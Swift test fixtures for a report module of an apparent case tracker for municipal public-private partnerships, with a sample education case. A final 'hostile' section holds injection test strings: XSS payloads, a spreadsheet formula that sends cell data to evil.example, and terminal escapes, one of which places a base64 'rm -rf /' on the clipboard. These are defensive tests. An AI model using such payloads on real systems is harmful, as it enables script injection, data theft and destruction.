import Foundation
import RenkeiTestSupport
import RenkeiCore
import RenkeiStore
@testable import RenkeiReport

/// Test fixtures built in code (independent of the sample portfolio and of the shipped
/// guide catalog, which other people edit).
enum Fixtures {
    static let today = Day("2026-11-23")!

    static var repoRoot: URL { Repo.root }
    static var dataDir: DataDirectory { DataDirectory(url: repoRoot.appendingPathComponent("Data")) }
    static var shippedTemplates: TemplateStore { TemplateStore(shippedDir: dataDir.templates, workspaceDir: nil) }

    static func t(_ s: String) -> Timestamp { Timestamp(s)! }

    /// A small catalog in the shape of the guide's (pages as printed in the guide).
    static let catalog: Catalog = {
        func item(_ id: String, _ ja: String, _ en: String, _ page: String, required: Bool = false, group: String? = nil) -> CatalogItem {
            CatalogItem(id: id, ja: ja, en: en, page: page, side: .both, required: required, group: group)
        }
        let stages = [
            StageSpec(id: .issueDefinition, ja: "課題特定・企画", en: "Issue definition", page: "p.28-31",
                      items: [item("idef-local-issue", "地域の実情から課題を設定した", "Set the issue from the local situation", "p.29", required: true),
                              item("idef-similar-cases", "他自治体の類似事例を収集した", "Gathered similar cases elsewhere", "p.30")]),
            StageSpec(id: .partnerSearch, ja: "連携先の探索", en: "Partner search", page: "p.32-36",
                      items: [item("ps-check-1", "①課題解決への適合性を確認した", "① Fit to the issue", "p.36", required: true, group: "連携先の6つの確認ポイント"),
                              item("ps-ch-matching", "マッチングサービスを利用した", "Used a matching service", "p.33")]),
            StageSpec(id: .coordination, ja: "調整・意思決定", en: "Coordination", page: "p.37-40",
                      items: [item("coord-merit", "関係部署のメリットを整理した", "Organised the benefits for other departments", "p.39", required: true)]),
            StageSpec(id: .method, ja: "連携方法の検討", en: "Method", page: "p.41-44",
                      items: [item("meth-exit-chosen", "3つの出口から出口を選んだ", "Chose the exit", "p.41", required: true)]),
            StageSpec(id: .budgeting, ja: "予算化", en: "Budgeting", page: "p.45-47",
                      items: [item("bud-rough-quote", "下見積もりを取得した", "Obtained a rough quote", "p.45", required: true),
                              item("bud-calendar", "予算編成スケジュールに合わせた", "Aligned with the budget calendar", "p.46", required: true)],
                      requiredFields: ["budget.expenditureItem"]),
        ]
        // ExitSpec/MethodSpec have no public memberwise init: decode them as the catalog file would.
        let exitsJSON = #"[{"id":"procurement","ja":"自治体“へ”導入","en":"Procurement","page":"p.41-42","needsBudget":true,"methods":["proposal"],"items":[{"id":"proc-selection-method","ja":"調達方式を検討した","en":"Considered the procurement method","page":"p.42"}]}]"#
        let methodsJSON = #"[{"id":"proposal","ja":"企画競争・プロポーザル","en":"Competitive proposal","page":"p.83-99","exit":"procurement","requiredFields":[],"items":[{"id":"m-proposal-eval","ja":"評価項目を設定した","en":"Set the evaluation criteria","page":"p.85"}]}]"#
        let exits = try! JSONDecoder().decode([ExitSpec].self, from: Data(exitsJSON.utf8))
        let methods = try! JSONDecoder().decode([MethodSpec].self, from: Data(methodsJSON.utf8))
        let reference = [
            item("budget-scale", "予算規模・歳出費目", "Budget scale and expenditure item", "p.45-47"),
            item("evaluation", "事業者選定プロセスがあった場合は、評価項目や評価委員構成", "Evaluation criteria and panel", "p.45-47"),
            item("request-difficulties", "予算要求で苦労したこと", "Difficulties in the budget request", "p.45-47"),
            item("execution-difficulties", "連携実行段階で苦労したこと", "Difficulties during execution", "p.45-47"),
            item("outcomes", "連携効果の実績", "Results of the collaboration", "p.45-47"),
            item("kpi", "設定した活動指標（KPI）", "Activity indicators (KPIs) set", "p.45-47"),
        ]
        return Catalog(schemaVersion: 1, source: "fixture", stages: stages, exits: exits, methods: methods,
                       referenceItems: reference,
                       domains: try! JSONDecoder().decode([Domain].self, from: Data(#"[{"id":"education","ja":"教育","en":"Education"}]"#.utf8)))
    }()

    static func ev(_ seq: Int, _ at: String, _ actor: String, _ kind: EventKind, _ changes: [Change], reason: String? = nil) -> Event {
        Event(seq: seq, at: t(at), actor: actor, kind: kind, command: "cmd-\(seq)", changes: changes, reason: reason)
    }
    static func stage(_ a: Stage?, _ b: Stage) -> Change {
        Change(field: "stage", before: a.map { .string($0.rawValue) } ?? .null, after: .string(b.rawValue))
    }
    static func tick(_ id: String, _ at: String, _ by: String) -> Change {
        Change(field: "checklist.\(id)", before: .null, after: .object(["at": .string(at), "by": .string(by)]))
    }

    /// A programming-education case in budgeting, with a move back, a gate override and KPIs.
    static var educationCase: Case {
        var c = Case(id: "saitama-programming", title: "中学校プログラミング教育の官民連携",
                     municipality: Municipality(name: "さいたま市", prefecture: "埼玉県", size: .urban, kind: .designatedCity),
                     department: "教育委員会 学校教育部 指導1課",
                     contacts: [Contact(name: "山田 花子", organization: "さいたま市 指導1課", role: "指導主事",
                                        email: "hanako.yamada@city.example.jp", phone: "048-000-1234"),
                                Contact(name: "Ken Suzuki", organization: "ライフイズテック株式会社", role: "公共事業部",
                                        email: "ken.suzuki@example.com", phone: "+81 90 0000 5678")],
                     partners: [Partner(name: "ライフイズテック株式会社", kind: .startup, role: "教材・研修の提供"),
                                Partner(name: "市内中学校", kind: .municipality)],
                     domain: "education",
                     issue: IssueFrame(why: "中学校の技術科で、プログラミングを教えられる教員が不足している。\n生徒が楽しみながら学べる授業にしたい。",
                                       how: "企画競争（プロポーザル）で教材と教員研修を一体で調達する。\n\n山田さんが教員側の窓口。",
                                       what: "全市立中学校57校でオンライン教材を導入し、教員研修を年4回実施する。"),
                     exit: .procurement, method: "proposal", stage: .budgeting,
                     checklist: ["idef-local-issue": Tick(at: t("2026-04-10T10:00:00+09:00"), by: "yamada"),
                                 "ps-check-1": Tick(at: t("2026-05-20T10:00:00+09:00"), by: "yamada"),
                                 "coord-merit": Tick(at: t("2026-07-01T10:00:00+09:00"), by: "ksuzuki"),
                                 "meth-exit-chosen": Tick(at: t("2026-08-05T10:00:00+09:00"), by: "yamada"),
                                 "bud-rough-quote": Tick(at: t("2026-09-15T10:00:00+09:00"), by: "yamada")],
                     budget: Budget(fiscalYear: 2027,
                                    items: [BudgetItem(label: "オンライン教材ライセンス（57校）", yen: 4_800_000),
                                            BudgetItem(label: "教員研修業務", yen: 1_200_000)],
                                    expenditureItem: "委託料", roughQuoteYen: 6_500_000,
                                    funding: [FundingSource(name: "一般財源", kind: .general, ratePercent: 50, yen: 3_000_000),
                                              FundingSource(name: "デジタル田園都市国家構想交付金", kind: .grant, ratePercent: 50, yen: 3_000_000)],
                                    reference: ["budget-scale": "約600万円（委託料）。初年度は57校のうち20校で先行。",
                                                "request-difficulties": "財政課に費用対効果を説明するため、他市の実績を集めた。\n山田 花子（048-000-1234）が説明資料を作成。",
                                                "kpi": "授業満足度、教員の自信度"]),
                     kpis: [KPI(name: "プログラミング授業の生徒満足度", unit: "%", baseline: 52, target: 80,
                                actuals: [KPIActual(date: Day("2026-07-01")!, value: 61), KPIActual(date: Day("2026-10-01")!, value: 68.5)]),
                            KPI(name: "研修を受けた教員数", unit: "人", baseline: 0, target: 120, actuals: [])],
                     tags: ["教育", "プロポーザル"],
                     notes: [Note(id: 1, at: t("2026-05-20T11:00:00+09:00"), author: "yamada", text: "Ken Suzuki さん（ken.suzuki@example.com）と打合せ。\n次回は6月。"),
                             Note(id: 2, at: t("2026-09-16T09:00:00+09:00"), author: "kSuzuki", text: "下見積もり受領。電話 090-0000-5678 まで。")],
                     nextAction: NextAction(text: "財政課ヒアリング資料の提出", due: Day("2026-11-20")!))
        c.events = [
            ev(1, "2026-04-01T09:00:00+09:00", "yamada", .created, [stage(nil, .issueDefinition), Change(field: "title", before: .null, after: .string(c.title))]),
            ev(2, "2026-04-10T10:00:00+09:00", "yamada", .ticked, [tick("idef-local-issue", "2026-04-10T10:00:00+09:00", "yamada")]),
            ev(3, "2026-04-15T10:00:00+09:00", "yamada", .advanced, [stage(.issueDefinition, .partnerSearch)]),
            ev(4, "2026-05-20T10:00:00+09:00", "yamada", .ticked, [tick("ps-check-1", "2026-05-20T10:00:00+09:00", "yamada")]),
            ev(5, "2026-05-20T11:00:00+09:00", "yamada", .noteAdded, [Change(field: "note.1", before: .null, after: .object(["id": .int(1), "at": .string("2026-05-20T11:00:00+09:00"), "author": .string("yamada"), "text": .string("Ken Suzuki さん（ken.suzuki@example.com）と打合せ。\n次回は6月。")]))]),
            ev(6, "2026-05-25T10:00:00+09:00", "yamada", .advanced, [stage(.partnerSearch, .coordination)]),
            ev(7, "2026-06-10T10:00:00+09:00", "kSuzuki", .movedBack, [stage(.coordination, .partnerSearch), Change(field: "stageReason", before: .null, after: .string("関係課の合意が取れず、連携先を再確認"))], reason: "関係課の合意が取れず、連携先を再確認"),
            ev(8, "2026-06-20T10:00:00+09:00", "yamada", .advanced, [stage(.partnerSearch, .coordination)]),
            ev(9, "2026-07-01T10:00:00+09:00", "kSuzuki", .ticked, [tick("coord-merit", "2026-07-01T10:00:00+09:00", "kSuzuki")]),
            ev(10, "2026-07-10T10:00:00+09:00", "yamada", .advanced, [stage(.coordination, .method)]),
            ev(11, "2026-08-01T10:00:00+09:00", "yamada", .fieldSet, [Change(field: "exit", before: .null, after: .string("procurement")), Change(field: "method", before: .null, after: .string("proposal"))]),
            ev(12, "2026-08-05T10:00:00+09:00", "yamada", .ticked, [tick("meth-exit-chosen", "2026-08-05T10:00:00+09:00", "yamada")]),
            ev(13, "2026-08-20T10:00:00+09:00", "yamada", .gateOverridden, [stage(.method, .budgeting)], reason: "予算要求の締切が近いため、評価項目は予算化と並行して詰める"),
            ev(14, "2026-09-15T10:00:00+09:00", "yamada", .ticked, [tick("bud-rough-quote", "2026-09-15T10:00:00+09:00", "yamada"), Change(field: "budget.roughQuoteYen", before: .null, after: .int(6_500_000))]),
            ev(15, "2026-09-16T09:00:00+09:00", "kSuzuki", .noteAdded, [Change(field: "note.2", before: .null, after: .object(["id": .int(2), "text": .string("下見積もり受領。電話 090-0000-5678 まで。")]))]),
        ]
        // fix the checklist tick of coord-merit to the actor id used in the log
        c.checklist["coord-merit"] = Tick(at: t("2026-07-01T10:00:00+09:00"), by: "kSuzuki")
        return c
    }

    static let fixedDeadlines = DeadlineInfo(
        position: "2027年度当初予算: 予算要求の締切を過ぎています",
        milestones: [.init(id: "request", label: "予算要求締切", due: Day("2026-10-15")!, status: .met, source: "p.46"),
                     .init(id: "hearing", label: "財政課ヒアリング", due: Day("2026-11-20")!, status: .missed),
                     .init(id: "assessment", label: "査定内示", due: Day("2027-01-20")!, status: .upcoming)],
        earliestRoute: "2027年度当初予算",
        nextMilestone: .init(id: "assessment", label: "査定内示", due: Day("2027-01-20")!, status: .upcoming),
        daysOverdue: 3)

    /// Every hostile string the report must survive.
    static let script = "<script>alert('x')</script>"
    static let imgAttr = "\"><img src=x onerror=alert(1)>"
    static let formula = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")"
    static let controls = "bell\u{07} esc\u{1B}[31mred\u{1B}[0m osc52\u{1B}]52;c;cm0gLXJmIC8=\u{07} rlo\u{202E}gnp.exe"
    static let longNote = String(repeating: "長", count: 5_000) + String(repeating: "x", count: 5_000)

    static var hostileCase: Case {
        var c = educationCase
        c.id = "hostile"
        c.title = script + imgAttr
        c.department = formula
        c.partners = [Partner(name: imgAttr, kind: .startup, role: controls), Partner(name: "-2+3", kind: .company)]
        c.issue = IssueFrame(why: script + "\n# not a heading\n1. not a list", how: controls, what: "| a | b |\n[link](javascript:alert(1)) ![i](x) `code` **b** &lt;")
        c.tags = [formula, "@SUM(A1)", "+cmd", "\tTAB", "\rCR"]
        c.notes.append(Note(id: 3, at: t("2026-10-01T09:00:00+09:00"), author: "yamada\u{1B}]0;pwned\u{07}", text: longNote))
        c.budget.reference["outcomes"] = controls + script
        c.kpis.append(KPI(name: script, unit: imgAttr, baseline: nil, target: 1e300, actuals: [KPIActual(date: Day("2026-10-01")!, value: -5)]))
        c.nextAction = NextAction(text: formula, due: Day("2026-11-01"))
        c.stageReason = controls
        return c
    }
}
